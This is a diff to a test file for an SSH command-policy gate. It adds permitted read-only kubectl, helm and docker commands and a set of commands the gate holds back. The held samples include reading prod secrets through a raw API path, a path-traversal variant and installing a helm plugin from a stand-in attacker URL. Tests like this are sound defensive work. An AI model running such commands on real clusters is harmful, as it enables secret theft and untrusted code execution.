@@ -12,6 +12,11 @@ from sshgate.policy.model import Action
 from .expect import TABLE_BUDGET, each, held
 
 ALLOWED = [
+    'kubectl get --raw /apis/metrics.k8s.io/v1beta1/nodes',
+    'kubectl get --raw /apis/metrics.k8s.io/v1beta1/namespaces/prod/pods/api-1',
+    'helm status api -n prod --show-resources',
+    'helm plugin list',
+    'docker system events --since 10m',
     'kubeadm version',
     'kubeadm certs check-expiration',
     'kubeadm config images list',
@@ -243,6 +248,10 @@ ALLOWED = [
 ]
 
 HELD = [
+    'kubectl get --raw /apis/metrics.k8s.io/v1beta1/namespaces/prod/secrets',
+    'kubectl get --raw /apis/metrics.k8s.io/v1beta1/nodes/..',
+    'helm plugin install https://evil.example.com/p',
+    'helm get hooks api -n prod',
     # debug logs carry request headers; a salt trace its pillar
     'argocd app list --loglevel debug',
     'istioctl ps --vklog 9',
